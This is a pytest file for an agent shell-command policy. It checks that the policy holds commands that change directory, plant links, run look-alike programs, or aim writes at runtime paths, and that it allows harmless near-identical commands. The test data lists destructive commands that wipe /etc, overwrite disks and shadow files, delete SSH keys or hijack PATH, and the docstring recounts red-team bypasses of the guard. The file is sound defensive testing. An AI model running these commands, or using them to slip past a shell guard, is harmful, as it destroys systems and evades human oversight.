"""Paths that are not what they look like: the shell pack holds them, and keeps allowing their everyday look-alikes.

Five families a red team found allowed, each fixed by a general rule (docs/shell-matcher.md, "Limits" and the
working-tree notes), and tested here with spellings beyond the ones it reported:

* **the current directory**: ``cd``/``pushd``/``popd`` and ``env -C`` make later relative paths point elsewhere
  (``cd / && rm -r etc``); relative paths are judged where they then point, and a directory known only at run time
  (``cd "$X"``, ``cd -``, ``cd ..`` above the tree) makes every relative write held;
* **links**: a link whose target is outside the working tree makes later paths through it lead there
  (``ln -s / x; rm -r x/etc``): making one is held;
* **a program named by a path**: ``./cat`` or ``/tmp/ls`` runs whatever file is there, not the system's ``cat``:
  held unless in a system program directory or a project's own tool (``./gradlew``, ``node_modules/.bin/jest``);
* **devices as scratch**: ``/dev/null`` is fine to write into but not to remove, move, link over or chmod;
* **write targets known at run time**: a run-time name under a system prefix (``> /dev/$(echo sda)``), a ``for``
  variable over ``/var/log/*``, ``find /etc -exec tee {} +``, names ``xargs`` reads, a target that is all a command's
  output.
"""

from __future__ import annotations

import pytest

from capfence.call.view import CallView
from capfence.policy.compiled import Policy
from capfence.policy.engine import evaluate
from tests.support.loading import load_policy
from tests.support.paths import SHELL_PACK


@pytest.fixture(scope="module")
def pack() -> Policy:
    return load_policy(SHELL_PACK)


def _decide(pack: Policy, command: str) -> tuple[str, str | None, str]:
    decision = evaluate(
        pack, CallView(capability="shell.execute", payload={"command": command}, agent_id="t")
    )
    return str(decision.action), decision.rule, decision.reason


CHDIR = [
    ("cd / && rm -r etc", "recursive deletion"),
    ("cd /etc; rm passwd", "passwd (in /etc)"),
    ("cd /etc && touch cron.d/x", "cron.d/x (in /etc)"),
    ("cd -P /dev && cat /dev/zero > sda", "sda (in /dev)"),
    ("cd -- /var/log && truncate -s 0 syslog", "(in /var/log)"),
    ("builtin cd /etc; cp ~/x sudoers", "sudoers (in /etc)"),
    ("pushd /etc >/dev/null && rm hosts", "hosts (in /etc)"),
    ("pushd /tmp; popd; pushd /etc; mv hosts hosts.bak", "hosts (in /etc)"),
    ("cd ~/.ssh && rm id_rsa", "id_rsa (in ~/.ssh)"),
    ("cd $HOME; : > .bash_history", ".bash_history (in ~)"),
    ("cd; rm .profile", ".profile (in ~)"),
    ("cd ~ && mv .bashrc x", ".bashrc (in ~)"),
    ("cd .. && rm project/x", "directory known only at run time"),
    ("cd ../.. && touch x", "directory known only at run time"),
    ("cd src/../.. && touch x", "directory known only at run time"),
    ('cd "$TARGET" && rm x', "directory known only at run time"),
    ('cd "$(dirname "$0")"/.. && touch x', "directory known only at run time"),
    ("cd - && rm x", "directory known only at run time"),
    ("popd && rm x", "directory known only at run time"),
    ("cd ~bob && rm notes", "directory known only at run time"),
    ("env -C / rm -r etc", "recursive deletion"),
    ("env -C/etc rm hosts", "hosts (in /etc)"),
    ("env --chdir=/etc tee hosts < x", "hosts (in /etc)"),
    ("env --chdir /etc cp x sudoers", "sudoers (in /etc)"),
    ("env -i -C /etc rm hosts", "hosts (in /etc)"),
    ("sh -c 'cd /etc && rm hosts'", "hosts (in /etc)"),
    ("cd /etc && echo x >> hosts", "hosts (in /etc)"),
    ("cd / && tar xzf backup.tgz", "extracts into . (in /)"),
    ("cd /usr/local/bin && curl -O https://example.com/tool", "downloads into . (in /usr/local/bin)"),
    ("cd /etc/cron.d && wget https://example.com/job", "downloads into . (in /etc/cron.d)"),
    ("cd /etc && sed -i s/a/b/ hosts", "hosts (in /etc)"),
    ("find / -name etc -execdir touch x \\;", "x (in /)"),
    ("find /etc -type d -execdir mkdir new \\;", "new (in /etc)"),
    ('cd /etc && for f in *; do : > "$f"; done', "known only at run time, from . (in /etc)"),
    ('cd "$X" && echo > "$F"', "from . (in a directory known only at run time)"),
    ("CDPATH=/ ; cd etc && rm passwd", "CDPATH"),
    ("export CDPATH=/:.; cd etc; rm passwd", "CDPATH"),
]

SYMLINK = [
    ("ln -s / x; rm -r x/etc", "makes a link to /"),
    ("ln -s /etc e && : > e/hosts", "makes a link to /etc"),
    ("ln --symbolic /dev/sda d; cat /dev/zero > d", "makes a link to /dev/sda"),
    ("ln -sfn /proc/sysrq-trigger t && echo b > t", "makes a link to /proc/sysrq-trigger"),
    ("ln -sT /var/log L && truncate -s 0 L/syslog", "makes a link to /var/log"),
    ("ln -s -t . /etc/shadow; : > shadow", "makes a link to /etc/shadow"),
    ("ln -st . /etc", "makes a link to /etc"),
    ("ln -sr /etc e", "makes a link to /etc"),
    ("ln --sym ~ h && rm h/.profile", "makes a link to ~"),
    ("ln -s $HOME/Documents d", "makes a link to ~/Documents"),
    ("ln -s ~/.ssh k", "makes a link to ~/.ssh"),
    ("ln -s ../../.. up", "makes a link to ../../.."),
    ("mkdir -p a && ln -s ../../x a/y", "makes a link to ../../x"),
    ("ln /etc/passwd p && : > p", "makes a link to /etc/passwd"),
    ("ln -f /etc/shadow s", "makes a link to /etc/shadow"),
    ("busybox ln -s / root", "makes a link to /"),
    ("cp -s /etc/passwd p", "makes links instead of copies"),
    ("cp -as /etc e", "makes links instead of copies"),
    ("cp --symbolic-link /bin/bash b", "makes links instead of copies"),
    ("cp -l /etc/shadow s", "makes links instead of copies"),
    ("cd /etc && ln hosts /tmp/h", "hosts (in /etc)"),
]

FAKE_NAME = [
    ("./cat -rf /", "runs ./cat, a file in the working tree"),
    ("cp /bin/rm ./ls && ./ls -r ~", "runs ./ls"),
    ("cp /usr/bin/python3 bin/echo && bin/echo -c 'import os'", "runs bin/echo"),
    ("./././wc if=/dev/zero of=/dev/sda", "runs ./././wc"),
    ('"./head" -n1 x', "runs ./head"),
    ("../cat x", "runs ../cat, a file outside the system's program directories"),
    ("~/bin/cat x", "runs ~/bin/cat"),
    ("$HOME/cat x", "runs ~/cat"),
    ("$PWD/cat x", "runs ./cat"),
    ("/tmp/ls -la", "runs /tmp/ls"),
    ("/var/tmp/x/true", "runs /var/tmp/x/true"),
    ("/dev/shm/date", "runs /dev/shm/date"),
    ("/home/alice/bin/grep x y", "runs /home/alice/bin/grep"),
    ("/root/ls", "runs /root/ls"),
    ("/tmp/x/configure", "runs /tmp/x/configure"),
    ("../configure", "runs ../configure"),
    ("env ./cat x", "runs ./cat"),
    ("timeout 5 ./sleep 1", "runs ./sleep"),
    ("nice -n 5 /tmp/make", "runs /tmp/make"),
    ("xargs ./echo < list", "runs ./echo"),
    ("find . -name x -exec ./cat {} +", "runs ./cat"),
    ("sh -c './true'", "runs ./true"),
    ("cd /tmp && ./ls", "runs ./ls"),
    ("export PATH=$PWD:$PATH; cat x", "makes programs found in ."),
    ("export PATH=.:$PATH", "makes programs found in ."),
    ('export PATH="$HOME/bin:$PATH"', "makes programs found in ~/bin"),
    ("export PATH=/tmp/x:$PATH", "makes programs found in /tmp/x"),
    ("export PATH=$PATH:", "makes programs found in ."),
]

DEV_NULL = [
    ("rm -f /dev/null", "/dev/null"),
    ("rm /dev/tty", "/dev/tty"),
    ("unlink /dev/null", "/dev/null"),
    ("rm /dev/stdout", "/dev/stdout"),
    ("rm -f /dev/fd/1", "/dev/fd/1"),
    ("rm /dev/pts/0", "/dev/pts/0"),
    ("rmdir /dev/shm", "/dev/shm"),
    ("rmdir /tmp", "/tmp"),
    ("mv ./important-data /dev/null", "/dev/null"),
    ("mv x /dev/stdout", "/dev/stdout"),
    ("mv /dev/null x", "moves /dev/null away"),
    ("mv /tmp ./t", "moves /tmp away"),
    ("ln -sf ./x /dev/null", "/dev/null"),
    ("ln -f x /dev/tty", "/dev/tty"),
    ("install -m 644 x /dev/null", "/dev/null"),
    ("install x /dev/stderr", "/dev/stderr"),
    ("rsync x /dev/null", "/dev/null"),
    ("cp -f --remove-destination x /dev/null", "--remove-destination"),
    ("cp --remove-dest x /dev/null", "--remove-destination"),
    ("chmod 600 /dev/null", "/dev/null"),
    ("chown me /dev/tty", "/dev/tty"),
    ("chgrp users /dev/null", "/dev/null"),
    ("sed -i s/a/b/ /dev/null", "/dev/null"),
    ("sudo rm /dev/null", "another user"),
]

RUNTIME_TARGET = [
    ("cat /dev/zero > /dev/$(echo sda)", "/dev/..."),
    ('cat /dev/zero > "/dev/${DISK}"', "/dev/..."),
    ("head -c 1M /dev/urandom > /dev/sd$X", "/dev/sd..."),
    ("tee /dev/$(echo sda) < /dev/zero", "/dev/..."),
    ("tee -a /etc/$(whoami) < x", "/etc/..."),
    ('echo x > "/etc/cron.d/$NAME"', "/etc/cron.d/..."),
    ("echo x > ~/$F", "~/..."),
    ("echo x >> /boot/${K}", "/boot/..."),
    ('cat /dev/urandom > "$(ls /dev/sd? | head -1)"', "output of head, ls"),
    ('yes > "$(printf /dev/%s sda)"', "output of printf"),
    ("tee $(echo /dev/nvme0n1) < /dev/zero", "output of echo"),
    ('echo 1 > "$(readlink -f /sys/x)"', "output of readlink"),
    ('for f in /var/log/*.log; do : > "$f"; done', "/var/log/..."),
    ("for f in /etc/*.conf; do > $f; done", "/etc/..."),
    ('for f in /etc/hosts /etc/passwd; do echo x >> "$f"; done', "/etc/hosts..."),
    ("for d in /dev/sd?; do echo 1 > $d; done", "/dev/sd..."),
    ('for f in a /etc/shadow; do : > "$f"; done', "/etc/shadow..."),
    ('for f in $(find /var/log -type f); do : > "$f"; done', "output of find"),
    ('for f in $(cat list); do tee "$f" < /dev/null; done', "output of cat"),
    ("find /var/log -type f -exec tee {} + < /dev/null", "files named by its input"),
    ("find / -xdev -type f -exec tee {} + </dev/null", "files named by its input"),
    ("find -L /etc -name '*.conf' -exec tee {} \\;", "files named by its input"),
    ("find /etc -execdir tee {} + < /dev/null", "files named by its input"),
    ("find . /etc -exec tee {} +", "files named by its input"),
    ("fd . /etc -x tee", "files named by its input"),
    ("fd -t f . --search-path /var/log -X tee", "files named by its input"),
    ("sort -o /etc/$X x", "/etc/..., a path completed at run time"),
    ("curl -o /etc/$X https://example.com", "/etc/..., a path completed at run time"),
    ("wget -O /usr/local/bin/$T https://example.com", "/usr/local/bin/..., a path completed"),
    ("find / -name x -fprint /etc/$X", "/etc/..., a path completed"),
    ("gzip /dev/null", "/dev/null"),
    ("echo /etc/passwd | xargs tee", "named by its input"),
    ("ls /var/log/*.log | xargs tee", "named by its input"),
    ("printf '%s\\n' /etc/shadow | xargs -n1 tee </dev/null", "named by its input"),
    ("cat list | xargs -I{} tee {} < /dev/null", "named by its input"),
]

ALLOWED = [
    "cd src && ls -la",
    "cd src; git status",
    "cd build && rm -r out",
    "cd docs && touch index.md",
    "cd /tmp && touch x",
    "cd /tmp/work && echo hi > notes.txt",
    'cd build && echo x > "$F"',
    'cd /tmp && for f in *; do : > "$f"; done',
    "cd /etc && cat hosts",
    "cd /var/log && grep -i error syslog",
    "cd ~/project && git status",
    "cd /srv/app && git pull",
    "pushd src && ls; popd",
    "env -C src ls",
    "ln -s src/main.py main.py",
    "ln -s ../lib/x.so build/x.so",
    "ln -s /tmp/cache .cache-link",
    "ln -sf target/release/app app",
    "cp -r src dst",
    "cp -f a.txt b.txt",
    "cp --parents src/a.txt out/",
    "cp -a --no-preserve=mode src out",
    "cp a.txt /dev/null",
    "./gradlew build",
    "./mvnw test",
    './configure --prefix="$PWD/install" && make',
    "node_modules/.bin/jest --watch",
    ".venv/bin/pytest -q",
    ".venv/bin/python -m pip list --outdated",
    "node_modules/.bin/eslint .",
    "/usr/bin/ls -la",
    "/bin/cat README.md",
    "/usr/local/bin/jq . x.json",
    'export PATH="$PWD/node_modules/.bin:$PATH"',
    'export PATH="$HOME/.local/bin:$PATH"',
    "ls > /dev/null",
    "echo hi > /dev/stderr",
    "make 2>/dev/null",
    "rm /tmp/x.lock",
    "rm -f build/x.o",
    "mv /tmp/out.txt results.txt",
    "tee -a ${LOG_FILE}",
    'tail -n +2 "$F" > "$F.tmp"',
    'echo > "$(date +%F).log"',
    'echo x > "$(mktemp)"',
    "echo x > /tmp/$NAME.log",
    "echo x > build/$NAME.txt",
    'for f in *.txt; do echo "$f" >> list.txt; done',
    "for i in 1 2 3; do echo $i > out$i.txt; done",
    'for f in /etc/*.conf; do cat "$f"; done',
    "for f in /var/log/*.log; do wc -l $f; done",
    "find /etc -name '*.conf' -exec cat {} +",
    "find / -name x -exec ls -l {} +",
    "fd . src -x wc -l",
    "find . -type d -execdir touch .keep \\;",
    "find src -name '*.py' -execdir wc -l {} +",
    "curl -o out/$X https://example.com",
    "gzip -k logs/a.log",
    "find /var/log -name '*.log' | xargs wc -l",
    "echo $HOME",
    "grep -r x $DIR",
]


@pytest.mark.parametrize(("command", "why"), CHDIR + SYMLINK + FAKE_NAME + DEV_NULL + RUNTIME_TARGET)
def test_held(pack: Policy, command: str, why: str) -> None:
    action, rule, reason = _decide(pack, command)
    assert action in ("require_approval", "deny"), (action, rule, reason)
    if action == "require_approval":
        assert rule == "shell-not-known-safe"
        # (a secret named earlier in the command is held first, for that: as good a reason)
        assert why in reason or "holds secrets" in reason, reason


@pytest.mark.parametrize("command", ALLOWED)
def test_allowed(pack: Policy, command: str) -> None:
    assert _decide(pack, command)[0] == "allow", _decide(pack, command)
